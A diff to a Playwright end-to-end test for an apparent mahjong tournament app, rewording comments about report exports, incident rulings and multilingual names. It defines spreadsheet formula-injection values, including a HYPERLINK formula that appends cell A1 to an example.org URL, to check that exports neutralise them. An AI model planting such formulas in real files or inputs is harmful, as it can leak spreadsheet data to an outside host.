@@ -10,12 +10,12 @@ import { againstSchema, askedByHtml, asSheetProgramReads, drawPdf, readPdf } fro
 import { AT_TABLE_7, BAD, badLineAt, playersCsv, seatingCsv } from './people.ts'
 import { EVERY, fileOf, type Wanted } from './wanted.ts'
 
-/** What is typed as a reason: a spreadsheet must not carry it out. */
+/** A reason with a formula: a spreadsheet must not execute it. */
 const FORMULA = '=HYPERLINK("http://example.org/?"&A1;"Zofia")'
 const HOSTILE_NAME = '=HYPERLINK("http://example.org";"Zofia Zając")'
 const STATEMENT = '中村 さくら, Żółkiewski and L’Hôpital saw it: « la tuile n’était pas prise »'
 
-/** Everything that was made, and the pages as pictures: kept to be looked at. */
+/** All generated files, and the pages as pictures, stored for review. */
 const LEFT = join(import.meta.dirname, '../../node_modules/.cache/whole')
 
 test('from two spreadsheets to an overturned ruling, and every report in every format and language, opened by other programs', async ({
@@ -129,7 +129,7 @@ async function decideIncident(page: Page, served: Served): Promise<void> {
   }
 }
 
-/** Makes each file twice: the second time the same bytes come down, apart from what says when. */
+/** Makes each file twice: the second time the bytes are the same, except for the times. */
 async function makeAll(page: Page): Promise<readonly Wanted[]> {
   await page.keyboard.press('Control+6')
   await expect(page.getByRole('heading', { name: 'Reports' })).toBeVisible()
@@ -140,11 +140,11 @@ async function makeAll(page: Page): Promise<readonly Wanted[]> {
         const one = await made(page, wanted)
         const other = await made(page, wanted)
         const isOneMinute = Math.floor(since.getTime() / 60_000) === Math.floor(Date.now() / 60_000)
-        // what is printed says the minute
+        // the printed text contains the minute
         if (!isOneMinute && left > 0) continue
         writeFileSync(join(LEFT, fileOf(wanted)), one)
         writeFileSync(join(LEFT, `again-${fileOf(wanted)}`), other)
-        // that it left is itself something that the file holds about the person
+        // the file of a person includes the record of its own export
         if (wanted.kind === 'person') break
         const isSame = apartFromWhen(other, wanted.format, since) === apartFromWhen(one, wanted.format, since)
         expect.soft(isSame, `${fileOf(wanted)} twice is the same`).toBe(true)
@@ -154,7 +154,7 @@ async function makeAll(page: Page): Promise<readonly Wanted[]> {
   return EVERY
 }
 
-/** From two copies of the file, so that neither knows that the other left. */
+/** Exports from two copies of the file, so that neither records the other export. */
 async function personTwice(served: Served): Promise<void> {
   const shinpan = (...args: readonly string[]): void => {
     execFileSync(process.execPath, ['desk/main.ts', ...args], {
@@ -206,7 +206,7 @@ async function openAll(browser: Browser, files: readonly Wanted[]): Promise<void
   console.log(`${files.length} files; pages: ${pages.join(', ')}`)
 }
 
-/** Whoever must stand in it, in their own letters. */
+/** The names that a report must contain, in their own letters. */
 const namesIn = ({ kind }: Wanted): readonly string[] => {
   switch (kind) {
     case 'incident':
@@ -230,12 +230,12 @@ const namesIn = ({ kind }: Wanted): readonly string[] => {
   }
 }
 
-/** As it is compared: a line that was broken is one. */
+/** Normalizes text for comparison: line breaks and spaces are removed. */
 const flat = (text: string): string => text.normalize('NFKC').replaceAll(/\s+/g, '')
 const escaped = (text: string): string =>
   text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;')
 
-/** What left before says on the report screen that it is outdated. */
+/** The report screen marks earlier exports as outdated. */
 async function correct(page: Page, served: Served): Promise<void> {
   const incident = page.getByRole('row', { name: /^Incident 1/ })
   await expect(incident).toContainText('still holds')
@@ -253,7 +253,7 @@ async function correct(page: Page, served: Served): Promise<void> {
   await expect(incident).toContainText('still holds')
 }
 
-/** South in riichi; West calls pon, discards, and never takes the tile. */
+/** South is in riichi; West calls pon, discards, and never takes the tile. */
 const HAND = [
   ...(['@hand E1 0', '@dora 4p', 'E discard 9s', 'S draw', 'S riichi 4s', 'W draw', 'W discard 1m', 'N draw', 'N discard 2z'] as const),
   ...(['E draw', ...DEAD_HAND] as const),
